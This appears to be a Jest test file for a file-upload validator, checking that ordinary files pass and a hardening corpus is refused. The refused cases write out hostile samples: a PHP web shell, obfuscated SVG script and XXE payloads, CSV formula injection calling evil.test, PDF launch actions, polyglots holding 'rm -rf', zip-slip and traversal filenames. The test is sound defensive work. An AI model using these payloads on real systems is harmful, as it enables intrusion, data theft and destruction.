import { validateUpload, OOXML_TYPES, PUBLIC_REPORT_TYPES, MAX_NAME_LENGTH, type UploadCandidate } from '../validate-upload';
import { AVI, BMP, CFB, CSV, ELF, GIF, HTML, JPEG, MOV, MP4, MZ, PDF, PNG, SVG, TEXT, WEBM, WEBP, enc, noise, ooxml, utf8, zip } from './fixtures';

/**
 * Issue 12 items 1–2: the attack corpus that got through before, and a good corpus that must keep
 * passing. Every file is generated here; the same validator runs in the browser and the demo backend.
 */

type Case = [name: string, type: string, bytes: number[], opts?: { allowedTypes?: readonly string[] }];
const file = ([name, type, bytes]: Case): UploadCandidate => ({ name, type, size: bytes.length, bytes: async () => new Uint8Array(bytes) });

const svg = (body: string) => utf8(`<svg xmlns="http://www.w3.org/2000/svg">${body}</svg>`);
const withTail = (head: number[], tail: string | number[]) => [...head, ...noise(48, 3), ...(typeof tail === 'string' ? enc(tail) : tail)];
const WORD = OOXML_TYPES.docx;
const XLSX = OOXML_TYPES.xlsx;

const GOOD: Case[] = [
  ['photo.jpg', 'image/jpeg', JPEG],
  ['photo.jpeg', 'image/jpg', JPEG],
  ['scan.png', 'image/png', PNG],
  ['anim.gif', 'image/gif', GIF],
  ['plan.bmp', 'image/bmp', BMP],
  ['phone.webp', 'image/webp', WEBP],
  ['sign.svg', 'image/svg+xml', SVG],
  ['report.pdf', 'application/pdf', PDF],
  ['legacy.doc', 'application/msword', CFB],
  ['legacy.xls', 'application/vnd.ms-excel', CFB],
  ['legacy.ppt', 'application/vnd.ms-powerpoint', CFB],
  ['minutes.docx', WORD, ooxml('docx')],
  ['register.xlsx', XLSX, ooxml('xlsx')],
  ['briefing.pptx', OOXML_TYPES.pptx, ooxml('pptx')],
  ['notes.txt', 'text/plain', TEXT],
  ['rows.csv', 'text/csv', CSV],
  ['clip.mp4', 'video/mp4', MP4],
  ['clip.mov', 'video/quicktime', MOV],
  ['clip.avi', 'video/x-msvideo', AVI],
  ['clip.webm', 'video/webm', WEBM],
  ['Отчёт за март 2026.pdf', 'application/pdf', PDF],
  ['现场照片.JPG', 'image/jpeg', JPEG],
  ['image', 'image/png', PNG],
  ['a'.repeat(MAX_NAME_LENGTH - 4) + '.png', 'image/png', PNG],
  // issue 26: numbers and phone numbers are not formulas; '<' in prose and an escaped tag are text
  ['contacts.csv', 'text/csv', utf8('name,phone,change\nAnna,+44 20 7946 0958,-12.5\nBo,"+1 (555) 010-0199",+3\n')],
  ['semicolons.csv', 'text/csv', utf8('name;note\nPump;inspected, -ok- later\n')],
  ['prose.txt', 'text/plain', utf8('noise < 85 dB(A) and dose > 0.5\nthe page said &lt;script&gt;\n')],
  ['link.svg', 'image/svg+xml', svg('<a href="https://example.com/plan"><text>Plan &amp; exits</text></a>')],
  ['photo.jpg', 'image/jpeg', JPEG, { allowedTypes: PUBLIC_REPORT_TYPES }],
  ['report.pdf', 'application/pdf', PDF, { allowedTypes: PUBLIC_REPORT_TYPES }],
];

const BAD: Case[] = [
  // what the demo backend stored before: the MIME type said text/plain, the name said otherwise
  ['update.hta', 'text/plain', utf8('<script>new ActiveXObject("WScript.Shell")</script>')],
  ['invoice.html', 'text/plain', HTML],
  ['run.js', 'text/plain', utf8('alert(1)')],
  ['setup.ps1', 'text/plain', utf8('Invoke-WebRequest x')],
  ['x.html', 'TEXT/PLAIN', HTML],
  ['payload.vbs', 'text/plain', utf8('MsgBox 1')],
  ['page.htm', 'text/plain', HTML],
  ['shell.php', 'text/plain', utf8('<?php system($_GET[1]); ?>')],
  ['tool.jar', 'text/plain', utf8('x')],
  ['lib.dll', 'text/plain', utf8('x')],
  ['install.msi', 'text/plain', utf8('x')],
  ['start.sh', 'text/plain', utf8('x')],
  ['doc.pdf.exe.', 'application/pdf', PDF],
  ['trail.exe ', 'application/pdf', PDF],
  ['svg-as.jpg', 'image/svg+xml', SVG],
  ['svg-named.jpg', 'image/jpeg', SVG],
  ['photo.docx', 'image/jpeg', JPEG],
  ['report.txt', 'application/pdf', PDF],
  ['noext-but-exe.zip', 'text/plain', utf8('x')],
  // SVG that runs script
  ['script.svg', 'image/svg+xml', svg('<script>alert(1)</script>')],
  ['onload.svg', 'image/svg+xml', utf8('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
  ['href.svg', 'image/svg+xml', svg('<a href="javascript:alert(1)"><text>x</text></a>')],
  ['foreign.svg', 'image/svg+xml', svg('<foreignObject><iframe src="//evil"/></foreignObject>')],
  ['xxe.svg', 'image/svg+xml', utf8('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>')],
  ['not-svg.svg', 'image/svg+xml', HTML],
  ['animate.svg', 'image/svg+xml', svg('<set attributeName="onmouseover" to="alert(1)"/><animate onbegin="alert(1)"/>')],
  // issue 26: spelt with character references, or set by SMIL animation
  ['charref-hex.svg', 'image/svg+xml', svg('<a href="jav&#x61;script:alert(1)"><text>x</text></a>')],
  ['charref-dec.svg', 'image/svg+xml', svg('<a href="&#106;&#97;vascript&colon;alert(1)"><text>x</text></a>')],
  ['charref-amp.svg', 'image/svg+xml', svg('<a href="jav&amp;#x61;script:alert(1)"><text>x</text></a>')],
  ['charref-tab.svg', 'image/svg+xml', svg('<a href="java&#x09;script:alert(1)"><text>x</text></a>')],
  ['animate-href.svg', 'image/svg+xml', svg('<a><animate attributeName="href" values="jav&#x61;script:alert(1)"/><text>x</text></a>')],
  ['set-xlink.svg', 'image/svg+xml', svg('<a><set attributeName="xlink:href" to="https://evil.test"/><text>x</text></a>')],
  ['set-to-js.svg', 'image/svg+xml', svg('<a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a>')],
  ['data-html.svg', 'image/svg+xml', svg('<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"><text>x</text></a>')],
  // issue 26: the whole text file is read, and CSV cells a spreadsheet would run are refused (OWASP CSV injection)
  ['late-script.txt', 'text/plain', utf8('Toolbox talk\nPPE checked\n<script>alert(1)</script>\n')],
  ['late-iframe.txt', 'text/plain', utf8('line one\n\n\n  <iframe src="//evil.test"></iframe>')],
  ['dde.csv', 'text/csv', utf8("name,note\nPump,=cmd|' /C calc'!A0\n")],
  ['plus.csv', 'text/csv', utf8('name,note\nPump,+SUM(1+1)*cmd|\' /C calc\'!A0\n')],
  ['minus.csv', 'text/csv', utf8('name,note\nPump,-2+3+cmd|\' /C calc\'!A0\n')],
  ['at.csv', 'text/csv', utf8('name,note\nPump,@SUM(1+1)\n')],
  ['quoted.csv', 'text/csv', utf8('name,note\nPump,"=HYPERLINK(""http://evil.test"",""Click"")"\n')],
  ['tab-led.csv', 'text/csv', utf8('name,note\nPump,"\t=1+1"\n')],
  ['semicolon.csv', 'text/csv', utf8('name;note\nPump;=WEBSERVICE("http://evil.test")\n')],
  ['first-cell.csv', 'text/csv', utf8('=1+1,b\n')],
  // polyglots: a valid header, something runnable behind it
  ['jpeg-html.jpg', 'image/jpeg', withTail(JPEG, '<html><script>alert(1)</script></html>')],
  ['jpeg-pe.jpg', 'image/jpeg', withTail(JPEG, MZ)],
  ['jpeg-php.jpg', 'image/jpeg', withTail(JPEG, '<?php echo shell_exec($_GET["c"]); ?>')],
  ['gif-zip.gif', 'image/gif', withTail(GIF, zip({ 'run.sh': 'rm -rf /' }))],
  ['png-zip.png', 'image/png', withTail(PNG, zip({ 'a.js': 'x' }))],
  ['png-script.png', 'image/png', withTail(PNG, '<script src=//evil></script>')],
  ['pdf-openaction.pdf', 'application/pdf', enc('%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n')],
  ['pdf-hex-name.pdf', 'application/pdf', enc('%PDF-1.4\n1 0 obj<</OpenAction<</S/J#61vaScript/JS(x)>>>>endobj\n')],
  ['pdf-launch.pdf', 'application/pdf', enc('%PDF-1.4\n1 0 obj<</OpenAction<</S/Launch/F(cmd.exe)>>>>endobj\n')],
  ['pdf-embedded.pdf', 'application/pdf', enc('%PDF-1.4\n1 0 obj<</Type/EmbeddedFile>>endobj\n')],
  ['pdf-html.pdf', 'application/pdf', withTail(PDF, '<html><body>')],
  ['webp-html.webp', 'image/webp', withTail(WEBP, '<script>x</script>')],
  ['mp4-pe.mp4', 'video/mp4', withTail(MP4, MZ)],
  // HTML renamed to every type that had no header check
  ['page.docx', WORD, HTML],
  ['page.webp', 'image/webp', HTML],
  ['page.bmp', 'image/bmp', HTML],
  ['page.mp4', 'video/mp4', HTML],
  ['page.mov', 'video/quicktime', HTML],
  ['page.avi', 'video/avi', HTML],
  ['page.webm', 'video/webm', HTML],
  ['page.doc', 'application/msword', HTML],
  ['page.xls', 'application/vnd.ms-excel', HTML],
  ['page.ppt', 'application/vnd.ms-powerpoint', HTML],
  ['page.txt', 'text/plain', HTML],
  ['page.csv', 'text/csv', utf8('  <html><script>alert(1)</script>')],
  ['binary.txt', 'text/plain', [0x41, 0x00, 0x42]],
  ['shebang.txt', 'text/plain', utf8('#!/bin/sh\nrm -rf ~')],
  ['elf.webm', 'video/webm', ELF],
  ['macho.mp4', 'video/mp4', [0xcf, 0xfa, 0xed, 0xfe, ...noise(16)]],
  // zips that are not Office documents
  ['jar.xlsx', XLSX, zip({ '[Content_Types].xml': '<Types/>', 'META-INF/MANIFEST.MF': 'Main-Class: A', 'A.class': 'x' })],
  ['only-types.xlsx', XLSX, zip({ '[Content_Types].xml': '<Types/>' })],
  ['macro.docx', WORD, ooxml('docx', { 'word/vbaProject.bin': 'x' })],
  ['slip.docx', WORD, ooxml('docx', { '../../evil.sh': 'x' })],
  ['word-as.xlsx', XLSX, ooxml('docx')],
  ['no-directory.docx', WORD, enc('PK\x03\x04[Content_Types].xmlword/document.xml')],
  // zero bytes, names
  ['empty.png', 'image/png', []],
  ['empty.txt', 'text/plain', []],
  ['a'.repeat(240) + '.jpg', 'image/jpeg', JPEG],
  ['...', 'image/png', PNG],
  ['invoice\u202Egpj.exe', 'image/jpeg', JPEG],
  ['photo\u202Egnp.png', 'image/png', PNG],
  ['..%252F..%252Fetc%252Fpasswd.txt', 'text/plain', TEXT],
  ['%2e%2e%5cboot.ini.txt', 'text/plain', TEXT],
  ['<img src=x onerror=alert(1)>.png', 'image/png', PNG],
  ['folder/photo.png', 'image/png', PNG],
  ['photo.png::$DATA', 'image/png', PNG],
  ['CON.txt', 'text/plain', TEXT],
  ['tab\there.png', 'image/png', PNG],
  // the public report takes photos and PDF only
  ['minutes.docx', WORD, ooxml('docx'), { allowedTypes: PUBLIC_REPORT_TYPES }],
  ['clip.mp4', 'video/mp4', MP4, { allowedTypes: PUBLIC_REPORT_TYPES }],
  ['notes.txt', 'text/plain', TEXT, { allowedTypes: PUBLIC_REPORT_TYPES }],
  ['notes.txt', '', TEXT, { allowedTypes: PUBLIC_REPORT_TYPES }],
];

const SPEC_MESSAGES = [/^No file provided$/, /^File size exceeds \S+ limit$/, /^File type '.+' not allowed$/, /^Invalid filename$/, /^Suspicious filename pattern detected$/, /^File content does not match \S+ format$/, /^Executable file detected$/];

describe('upload hardening corpus (issue 12)', () => {
  it('is big enough to mean something', () => {
    expect(BAD.length).toBeGreaterThanOrEqual(60);
    expect(GOOD.length).toBeGreaterThanOrEqual(15);
  });

  it.each(GOOD)('accepts %s (%s)', async (...c) => {
    expect(await validateUpload(file(c), c[3])).toEqual({ ok: true });
  });

  it.each(BAD)('refuses %s (%s) with a SPEC message', async (...c) => {
    const result = await validateUpload(file(c), c[3]);
    expect(result.ok).toBe(false);
    if (!result.ok) expect(SPEC_MESSAGES.some((re) => re.test(result.message))).toBe(true);
  });

  it('names the reason a person can act on', async () => {
    const check = async (c: Case) => {
      const r = await validateUpload(file(c), c[3]);
      return r.ok ? 'ok' : r.message;
    };
    expect(await check(['update.hta', 'text/plain', utf8('x')])).toBe('Suspicious filename pattern detected');
    expect(await check(['photo.docx', 'image/jpeg', JPEG])).toBe('File content does not match JPEG format');
    expect(await check(['page.webp', 'image/webp', HTML])).toBe('File content does not match WEBP format');
    expect(await check(['notes.txt', 'text/plain', TEXT, { allowedTypes: PUBLIC_REPORT_TYPES }])).toBe("File type 'text/plain' not allowed");
    expect(await check(['a'.repeat(240) + '.jpg', 'image/jpeg', JPEG])).toBe('Invalid filename');
    expect(await check(['empty.png', 'image/png', []])).toBe('No file provided');
    expect(await check(['script.svg', 'image/svg+xml', svg('<script>x</script>')])).toBe('Executable file detected');
  });

  it('refuses the issue 26 files with the message that names executable content', async () => {
    for (const c of BAD.filter(([name]) => /^(charref|animate-href|set-|data-html|late-|dde|plus|minus|at|quoted|tab-led|semicolon|first-cell)/.test(name))) {
      const r = await validateUpload(file(c));
      expect([c[0], r.ok ? 'ok' : r.message]).toEqual([c[0], 'Executable file detected']);
    }
  });

  it('does not take random image bytes for markup (no false alarms on large photos)', async () => {
    for (let seed = 1; seed <= 20; seed++) {
      const bytes = [0xff, 0xd8, 0xff, 0xe0, ...noise(200_000, seed)];
      expect(await validateUpload(file([`p${seed}.jpg`, 'image/jpeg', bytes]))).toEqual({ ok: true });
    }
  });
});
